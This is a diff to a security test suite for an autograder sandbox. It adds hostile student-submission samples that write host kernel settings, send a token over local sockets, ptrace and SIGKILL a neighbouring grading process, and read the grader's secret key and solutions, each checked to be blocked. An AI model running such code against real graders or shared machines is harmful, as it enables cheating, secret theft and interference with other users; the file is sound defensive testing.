@@ -18,9 +18,11 @@ import re
 import os
 import pickle
 import random
+import shutil
 import socket
 import subprocess
 import sys
+import tempfile
 import textwrap
 import threading
 import time
@@ -34,8 +36,8 @@ from autograder.child import wire
 from autograder.config import DEFAULT
 from autograder.grade import grade
 from conftest import ROOT, SOLUTIONS
-from submissions.hostile.attacks import (ATTACKS, RESOURCE_ATTACKS, STALLS, Attack, build,
-                                         stall_classifier, stall_everywhere)
+from submissions.hostile.attacks import (ATTACKS, MARK, RESOURCE_ATTACKS, STALLS, Attack, build,
+                                         fill_in, stall_classifier, stall_everywhere)
 
 CONFIG = dataclasses.replace(DEFAULT, timeout_scale=0.1, time_budget=60.0)
 SECRET = "rnn-hostile-test-secret-0123456789"
@@ -317,7 +319,7 @@ def test_the_student_process_sees_no_secret_no_reference_and_no_other_process(tm
     # stdin, stdout, stderr, the two protocol pipes, the listing itself, sys.stdin
     assert len(seen["fds"]) <= 7, seen["fds"]
     if os.geteuid() == 0:
-        assert seen["uid"] == 65534
+        assert seen["uid"] == isolation.student_ids(CONFIG)[0] != 0
         assert not seen["solutions_readable"] and not seen["secret_readable"]
         assert len(seen["processes"]) <= 3, seen["processes"]  # a private PID namespace
 
@@ -1068,3 +1070,465 @@ def test_an_unprivileged_grader_refuses_before_any_student_code_runs(unprivilege
     assert (canary / "ran").exists()
     data = json.loads(out.read_text(), parse_constant=lambda c: pytest.fail(c))
     assert data["score"] == 0 and len(data["tests"]) == sum(len(c.cases) for c in CHECKS)
+
+
+# ---- issue 19: nobody outside the sandbox, in any mode -----------------------------------
+# Written as a student out to cheat would, in word_embedding_forward of the correct
+# reference, next to its honest twin (full marks under the same settings). The student
+# process's uid outside is read by the test from the host's /proc while the attack runs
+# (from inside, /proc/self/uid_map shows only its parent namespace: bwrap's nested one
+# prints "65534 0 1" whoever started it).
+
+ISOLATED = ["bwrap", "jail", "user"]
+HOST_SYSCTLS = ("/proc/sys/fs/file-max", "/proc/sys/kernel/core_pattern")
+HOST_SETTINGS = Attack("host_sysctls", "call", MARK + textwrap.dedent("""
+    import builtins, os, time
+    wrote = []
+    for path in {SYSCTLS}:
+        try:
+            with open(path) as f:
+                value = f.read()
+            with open(path, "w") as f:  # its own value: harmless, should it get through
+                f.write(value)
+            wrote.append(path)
+        except OSError:
+            pass
+    def _mounted(path):
+        try:
+            return "ro" if os.statvfs(path).f_flag & 1 else "rw"
+        except OSError:
+            return "absent"
+    uid_map = "/".join(open("/proc/self/uid_map").read().split())
+    if not getattr(builtins, "_rnn_looked_at", False):
+        builtins._rnn_looked_at = True
+        time.sleep(0.5)  # the test looks at this process from the host meanwhile
+    raise RuntimeError(f"SEEN wrote={','.join(wrote) or '-'};map={uid_map};"
+                       f"sys={_mounted('/sys/kernel')};procsys={_mounted('/proc/sys/kernel')} ")
+    """))
+
+
+class _HostView:
+    """What the host sees of every process named rnn{token} (MARK) while the block runs:
+    {pid: (real, effective, saved, filesystem uid)}, sampled every 5 ms."""
+
+    def __init__(self, token: str):
+        self.token, self.uids, self._stop = f"rnn{token}", {}, threading.Event()
+
+    def __enter__(self):
+        self._thread = threading.Thread(target=self._watch, daemon=True)
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc):
+        self._stop.set()
+        self._thread.join()
+
+    def _watch(self):
+        while not self._stop.wait(0.005):
+            for pid in _processes_with(self.token):
+                try:
+                    status = Path(f"/proc/{pid}/status").read_text()
+                except OSError:
+                    continue
+                line = next(x for x in status.splitlines() if x.startswith("Uid:"))
+                self.uids[pid] = tuple(int(u) for u in line.split()[1:])
+
+
+def _graders_own_uids() -> set[int]:
+    """Owners of the grader's files and of the grader process: none may be the student
+    outside (as root; a grader that is not root has no other uid to give it)."""
+    owners = {ROOT.stat().st_uid, (ROOT / "autograder").stat().st_uid, os.geteuid()}
+    if (ROOT / ".git").exists():
+        owners.add((ROOT / ".git").stat().st_uid)
+    return owners if os.geteuid() == 0 else {0}
+
+
+@pytest.mark.parametrize("mode", ISOLATED)
+def test_the_student_is_nobody_outside_and_cannot_write_host_sysctls(mode, twin, tmp_path):
+    """A submission writes host-wide kernel settings with their own values
+    (fs.file-max, kernel.core_pattern) and reports its uid map and how /sys and
+    /proc/sys are mounted: no write gets through; seen from the host its process has
+    no uid 0 nor the uid of the grader's files; with a private root (bwrap, jail) /sys
+    is absent and /proc/sys read-only."""
+    from autograder.child import jail
+
+    config, token = _mode(mode), _token()
+    folder = build(tmp_path / "s", HOST_SETTINGS,
+                   {"TOKEN": token, "SYSCTLS": HOST_SYSCTLS}, bugs=False)
+    children = jail.children()
+    with _HostView(token) as host:
+        result = grade(folder, config)
+    _assert_contained(result, twin(config), token, tmp_path, children)
+    seen = dict(part.split("=", 1) for part in _seen(result).split(";"))
+    assert seen["wrote"] == "-", seen
+    assert seen["map"], seen  # the attack ran and read its map
+    assert host.uids, "the student process was never seen from the host"
+    assert {u for uids in host.uids.values() for u in uids} & _graders_own_uids() == set(), \
+        (host.uids, seen["map"])
+    if mode != "user":
+        assert seen["sys"] == "absent" and seen["procsys"] == "ro", seen
+
+
+GRADER_UID = 64999  # an unprivileged user of no one here: the grader as a normal user
+GRADE_ELSEWHERE = """
+import dataclasses, json, sys
+from pathlib import Path
+from autograder import grade_command
+from autograder.config import DEFAULT
+config = dataclasses.replace(DEFAULT, **json.loads(sys.argv[3]))
+args = dict(submission=Path(sys.argv[1]), output=Path(sys.argv[2]), no_colour=True)
+sys.exit(grade_command.run(__import__("argparse").Namespace(**args), config))
+"""
+GRADING_FIELDS = ("isolation", "timeout_scale", "time_budget", "cgroups", "memory_cap",
+                  "max_processes", "fallback_processes", "tmpfs_bytes", "call_time_min",
+                  "allow_no_isolation")
+
+
+def _grade_elsewhere(folder: Path, out: Path, config, root: Path = ROOT, preexec=None,
+                     wait: bool = True):
+    """`grade` (the command's code, refusal included) in a grader process of its own,
+    run from `root`; wait=False: the running process (its results come later)."""
+    out.parent.mkdir(parents=True, exist_ok=True)
+    fields = {k: getattr(config, k) for k in GRADING_FIELDS}
+    proc = subprocess.Popen([sys.executable, "-c", GRADE_ELSEWHERE, str(folder), str(out),
+                             json.dumps(fields)], cwd="/", preexec_fn=preexec, text=True,
+                            env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(root),
+                                 "RNN_GRADER_SECRET": SECRET},
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    return _results_of(proc, out) if wait else proc
+
+
+def _results_of(proc, out: Path) -> dict:
+    stdout, stderr = proc.communicate(timeout=120)
+    assert proc.returncode == 0, (stdout + stderr)[-3000:]
+    return json.loads(out.read_text(), parse_constant=lambda c: pytest.fail(c))
+
+
+def _grade_as_normal_user(folder: Path, out: Path, config) -> dict:
+    """`folder` graded by a grader that runs as GRADER_UID (not root): it starts bwrap as
+    itself, as on a machine where the grader is a normal user with user namespaces.
+    The interpreter and the test's folders are made reachable to that user the way the
+    grader does it for bwrap's process (bwrap.student_preexec)."""
+    from autograder import bwrap
+
+    out.parent.mkdir(parents=True, exist_ok=True)
+    for path in (out.parent, folder, *folder.rglob("*")):
+        path.chmod(0o777 if path.is_dir() else 0o644)
+    binds = [sys.base_prefix, sys.prefix, str(ROOT), str(folder), str(out.parent)]
+    become = bwrap.student_preexec({"as_student": True, "sandbox_uid": GRADER_UID,
+                                    "view": {"binds": binds}}, str(folder))
+    proc = _grade_elsewhere(folder, out, config, preexec=become, wait=False)
+    stdout, stderr = proc.communicate(timeout=120)
+    if proc.returncode == 2 and "Refusing to grade" in stderr:
+        pytest.skip(f"a normal user has no {config.isolation} here (optional: user "
+                    f"namespaces): {stderr.strip().splitlines()[1][:200]}")
+    assert proc.returncode == 0, (stdout + stderr)[-3000:]
+    return json.loads(out.read_text(), parse_constant=lambda c: pytest.fail(c))
+
+
+@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("bwrap"),
+                    reason="needs root (to become a normal user) and bubblewrap")
+@pytest.mark.parametrize("mode", ["bwrap", "jail"])
+def test_a_grader_that_is_not_root_isolates_as_itself_unprivileged(mode, tmp_path):
+    """The same attack, with the grader run as a normal user (GRADER_UID) with user
+    namespaces: bwrap is started as that user, or the jail maps that user onto itself,
+    so the student is that user outside (never root); the sysctls stay unwritten, /sys
+    is absent and /proc/sys read-only; the honest twin, graded the same way, gets full
+    marks."""
+    # not root: no cgroup, so the rlimit fallback (RLIMITS: an address space for NumPy)
+    config, token = dataclasses.replace(RLIMITS, isolation=mode), _token()
+    honest = _grade_as_normal_user(build(tmp_path / "honest", None, {}, bugs=False),
+                                   tmp_path / "out-honest" / "results.json", config)
+    folder = build(tmp_path / "s", HOST_SETTINGS, {"TOKEN": token, "SYSCTLS": HOST_SYSCTLS},
+                   bugs=False)
+    with _HostView(token) as host:
+        data = _grade_as_normal_user(folder, tmp_path / "out" / "results.json", config)
+    assert honest["score"] == 100, [t["output"] for t in honest["tests"] if t["score"] < 1]
+    changed = {k.split(":")[0] for k, v in _scores(data).items() if v != _scores(honest)[k]}
+    assert changed <= ATTACKED, changed
+    text = next(t["output"] for t in data["tests"] if "SEEN" in t["output"])
+    seen = dict(part.split("=", 1) for part in
+                text[text.index("SEEN") + 4:].split()[0].split(";"))
+    assert seen["wrote"] == "-" and seen["sys"] == "absent" and seen["procsys"] == "ro", seen
+    assert {u for uids in host.uids.values() for u in uids} == {GRADER_UID}, host.uids
+
+
+# ---- issue 19: what mode "user" holds, and every other mode too -------------------------
+# Each attack next to its honest twin, in every mode this machine offers. A neighbour is
+# another grading running at the same time in a grader process of its own (as under
+# `grade-all --jobs 2`), on an honest submission whose student process is named
+# rnn{NEIGHBOUR} and lingers at import, so that it is there to be attacked.
+
+SOCKETS = Attack("sockets_to_the_host", "call", MARK + textwrap.dedent("""
+    import socket
+    got = []
+    for kind, family, kind_of, address in (
+            ("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {PORT})),
+            ("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {UDP_PORT})),
+            ("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\\0{ABSTRACT}")):
+        try:
+            with socket.socket(family, kind_of) as s:
+                s.settimeout(0.5)
+                s.connect(address)
+                s.sendall(b"LEAK {TOKEN}")
+            got.append(kind)
+        except OSError:
+            pass
+    raise RuntimeError(f"SEEN {','.join(got) or '-'} ")
+    """))
+
+
+class _Listeners:
+    """TCP and UDP on 127.0.0.1 and an abstract unix socket, recording what arrives."""
+
+    def __init__(self, token: str):
+        self.received = []
+        self.tcp, self.udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.unix = socket.socket(socket.AF_UNIX)
+        self.abstract = f"rnn-abstract-{token}"
+        self.tcp.bind(("127.0.0.1", 0))
+        self.udp.bind(("127.0.0.1", 0))
+        self.unix.bind("\0" + self.abstract)
+        for server in (self.tcp, self.unix):
+            server.listen(8)
+            threading.Thread(target=self._accept, args=(server,), daemon=True).start()
+        threading.Thread(target=self._receive, daemon=True).start()
+        self.fill = {"PORT": self.tcp.getsockname()[1], "UDP_PORT": self.udp.getsockname()[1],
+                     "ABSTRACT": self.abstract, "TOKEN": token}
+
+    def _accept(self, server):
+        while True:
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                return
+            self.received.append(conn.recv(1 << 16))
+            conn.close()
+
+    def _receive(self):
+        while True:
+            try:
+                self.received.append(self.udp.recv(1 << 16))
+            except OSError:
+                return
+
+    def close(self):
+        for server in (self.tcp, self.udp, self.unix):
+            server.close()
+
+
+def _graded_with_sockets(config, token: str, tmp_path: Path):
+    listeners = _Listeners(token)
+    try:
+        folder = build(tmp_path / "s", SOCKETS, listeners.fill, bugs=False)
+        result = grade(folder, config)
+        time.sleep(0.2)  # a datagram or connection under way
+    finally:
+        listeners.close()
+    return result, listeners.received
+
+
+@pytest.mark.parametrize("mode", ISOLATED)
+def test_no_socket_reaches_the_host(mode, twin, tmp_path, monkeypatch):
+    """TCP and UDP to 127.0.0.1 and an abstract unix socket of the host (no file to
+    protect it): nothing gets through, nothing arrives. In "user" mode only the syscall
+    filter stands in the way: without it (simulated) the same attack reaches all three."""
+    from autograder import syscall_filter
+    from autograder.child import jail
+
+    config, token = _mode(mode), _token()
+    if mode == "user" and not syscall_filter.program_hex()[0]:
+        pytest.skip(f"no syscall filter here: {syscall_filter.program_hex()[1]}")
+    children = jail.children()
+    result, received = _graded_with_sockets(config, token, tmp_path)
+    _assert_contained(result, twin(config), token, tmp_path, children)
+    assert _seen(result) == "-" and received == [], (_seen(result), received)
+    if mode == "user":
+        monkeypatch.setattr(syscall_filter, "program_hex", lambda: (None, "simulated"))
+        result, received = _graded_with_sockets(config, _token(), tmp_path / "open")
+        assert _seen(result) == "tcp,udp,abstract" and len(received) >= 3, _seen(result)
+
+
+# it lingers 4 s at import; the command would refuse mode "user" where this checkout is
+# within others' reach (test_the_graders_folders_are_out_of_reach): graded all the same
+NEIGHBOUR_CONFIG = dataclasses.replace(DEFAULT, timeout_scale=3.0, allow_no_isolation=True)
+HURT_THE_NEIGHBOUR = Attack("signal_and_trace_a_neighbour", "call", MARK + textwrap.dedent("""
+    import ctypes, os, signal, time
+    libc = ctypes.CDLL(None, use_errno=True)
+    PTRACE_ATTACH, PTRACE_DETACH = 16, 17
+    found = killed = traced = 0
+    end = time.monotonic() + 0.5
+    while not found and time.monotonic() < end:
+        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+            try:
+                with open(f"/proc/{pid}/comm") as f:
+                    if f.read().strip() != "rnn{NEIGHBOUR}":
+                        continue
+            except OSError:
+                continue
+            found += 1
+            if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
+                traced += 1
+                libc.ptrace(PTRACE_DETACH, pid, None, None)
+            try:
+                os.kill(pid, signal.SIGKILL)
+                killed += 1
+            except OSError:
+                pass
+        time.sleep(0.01)
+    child = os.fork()  # its own child: same uid, a descendant; only the filter refuses
+    if child == 0:
+        time.sleep(5)
+        os._exit(0)
+    own = int(libc.ptrace(PTRACE_ATTACH, child, None, None) == 0)
+    os.kill(child, signal.SIGKILL)
+    os.waitpid(child, 0)
+    raise RuntimeError(f"SEEN found={found};killed={killed};traced={traced};own={own} ")
+    """))
+
+
+def _neighbour(tmp_path: Path, mode: str):
+    """(a grading under way in a process of its own, its name token, its results path),
+    returned once its student process is there."""
+    token = _token()
+    folder = build(tmp_path / "neighbour", None, {}, bugs=False)
+    with open(folder / "rnn_layers.py", "a") as f:
+        f.write("\n" + fill_in(MARK, {"TOKEN": token}) + "import time\ntime.sleep(4)\n")
+    out = tmp_path / "neighbour-out" / "results.json"
+    proc = _grade_elsewhere(folder, out, dataclasses.replace(NEIGHBOUR_CONFIG, isolation=mode),
+                            wait=False)
+    end = time.monotonic() + 60
+    while not _processes_with(f"rnn{token}") and proc.poll() is None:
+        assert time.monotonic() < end, "the neighbour's student process never started"
+        time.sleep(0.02)
+    return proc, token, out
+
+
+@pytest.mark.parametrize("mode", ISOLATED)
+def test_a_neighbour_grading_cannot_be_signalled_or_traced(mode, twin, tmp_path):
+    """While a neighbour grades an honest submission, the attack looks for its student
+    process, ptrace-attaches and SIGKILLs it; then traces a child of its own. Nothing
+    succeeds (a uid per grading; the filter refuses ptrace), and the neighbour scores
+    full marks. Without a PID namespace ("user") the neighbour is in sight: the attack
+    did find it."""
+    from autograder import syscall_filter
+    from autograder.child import jail
+
+    # two gradings at once on a shared machine: the time budget of a whole grading
+    config = dataclasses.replace(_mode(mode), time_budget=DEFAULT.time_budget)
+    if not syscall_filter.program_hex()[0]:
+        pytest.skip(f"no syscall filter here: {syscall_filter.program_hex()[1]}")
+    proc, neighbour, out = _neighbour(tmp_path, mode)
+    token, children = _token(), jail.children()
+    folder = build(tmp_path / "s", HURT_THE_NEIGHBOUR, {"TOKEN": token, "NEIGHBOUR": neighbour},
+                   bugs=False)
+    result = grade(folder, config)
+    neighbours = _results_of(proc, out)
+    _assert_contained(result, twin(config), token, tmp_path, children)
+    seen = dict(part.split("=") for part in _seen(result).split(";"))
+    assert seen["killed"] == seen["traced"] == seen["own"] == "0", seen
+    assert int(seen["found"]) >= (1 if mode == "user" else 0), seen
+    assert neighbours["score"] == 100, [t["output"] for t in neighbours["tests"]
+                                        if t["score"] < t["max_score"]]
+
+
+READ_THE_GRADER = Attack("read_the_graders_folders", "call", MARK + textwrap.dedent("""
+    import os
+    got = []
+    for path in {PATHS}:
+        try:
+            if os.path.isdir(path):
+                os.listdir(path)
+            else:
+                with open(path, "rb") as f:
+                    f.read(1)
+            got.append(path)
+        except OSError:
+            pass
+    raise RuntimeError(f"SEEN {len(got)} " + " ".join(got)[:200])
+    """))
+
+
+def _targets(root: Path) -> list[str]:
+    """What a student would read of a grader installed at root: every folder it knows
+    (the checkout, the repository a worktree belongs to) and the files worth stealing."""
+    from autograder.backends.user import grader_folders
+    from autograder.config import Config
+
+    config = Config(root=root, solutions_dir=root / "solutions")
+    folders = [f for f in grader_folders(config) if f.is_relative_to(root)
+               or f.name == ".git" or f.parent.name == "worktrees"]
+    files = [root / rel for rel in (".git", ".git/HEAD", "autograder/secret.key",
+                                    "solutions/rnn/rnn_layers.py", "tests/submissions/bugs.py")]
+    return sorted({str(p) for p in [*folders, *files] if p.exists()})
+
+
+def _copy_of_the_grader(parent: Path) -> Path:
+    """The grader as an instructor installs it, in a folder others may enter: its code,
+    solutions, catalog and a git repository with all of it committed."""
+    root = parent / "grader"
+    ignore = shutil.ignore_patterns("__pycache__", "*.pyc")
+    for part in ("autograder", "solutions", "tests/submissions"):
+        shutil.copytree(ROOT / part, root / part, ignore=ignore)
+    (root / "autograder" / "secret.key").write_text(SECRET + "\n")
+    git = ["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@t"]
+    for args in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "the grader"]):
+        subprocess.run(git + args, check=True, capture_output=True)
+    for path in (parent, root, *root.rglob("*")):
+        path.chmod(0o755 if path.is_dir() else 0o644)
+    return root
+
+
+def test_the_graders_folders_are_out_of_reach_in_user_mode(twin, tmp_path):
+    """Mode "user": `grade` refuses while the grader's checkout (here a copy installed in
+    a folder others may enter, with its .git) is within the student uid's reach, and
+    prints the exact command; once it is run, the grading goes on, and the attack reads
+    none of the checkout, its .git, the solutions, the catalog or the secret, next to
+    its honest twin graded the same way."""
+    config = _mode("user")
+    parent = Path(tempfile.mkdtemp(prefix="rnn-grader-copy-", dir="/tmp"))
+    try:
+        root = _copy_of_the_grader(parent)
+        targets = _targets(root)
+        honest = build(tmp_path / "honest", None, {}, bugs=False)
+        folder = build(tmp_path / "s", READ_THE_GRADER, {"TOKEN": _token(), "PATHS": targets},
+                       bugs=False)
+        proc = _grade_elsewhere(honest, tmp_path / "refused" / "r.json", config, root,
+                                wait=False)
+        stdout, stderr = proc.communicate(timeout=120)
+        assert proc.returncode == 2 and "Refusing to grade" in stderr, stderr
+        command = next(line.split() for line in stderr.splitlines()
+                       if line.strip().startswith("chmod"))
+        assert command[:3] == ["chmod", "-R", "go-rwx"] and str(root) in command, command
+        subprocess.run(command, check=True)
+        graded = _grade_elsewhere(honest, tmp_path / "honest-out" / "r.json", config, root)
+        assert graded["score"] == 100
+        data = _grade_elsewhere(folder, tmp_path / "out" / "r.json", config, root)
+    finally:
+        shutil.rmtree(parent, ignore_errors=True)
+    text = next(t["output"] for t in data["tests"] if "SEEN" in t["output"])
+    assert text[text.index("SEEN") + 4:].split()[0] == "0", (text, targets)
+    changed = {k.split(":")[0] for k, v in _scores(data).items() if v != _scores(graded)[k]}
+    assert changed <= ATTACKED, changed
+
+
+@pytest.mark.parametrize("mode", ["bwrap", "jail"])
+def test_the_graders_folders_do_not_exist_in_a_private_root(mode, twin, tmp_path):
+    """bwrap and jail: the checkout this grader runs from, its .git and the repository
+    it belongs to are not in the student's root at all (but for the folders on the way
+    to the allow-list's own paths, the worker's code and the venv, which hold nothing
+    else)."""
+    from autograder import allowlist
+    from autograder.child import jail
+
+    config, token = _mode(mode), _token()
+    view = allowlist.interpreter_view((str(isolation.CHILD_DIR),))
+    on_the_way = {str(a) for p in [*view.binds, *(link for link, _ in view.links)]
+                  for a in Path(p).parents}
+    targets = [t for t in _targets(ROOT) if t not in on_the_way]
+    folder = build(tmp_path / "s", READ_THE_GRADER, {"TOKEN": token, "PATHS": targets},
+                   bugs=False)
+    children = jail.children()
+    result = grade(folder, config)
+    _assert_contained(result, twin(config), token, tmp_path, children)
+    assert _seen(result) == "0", (result, targets)
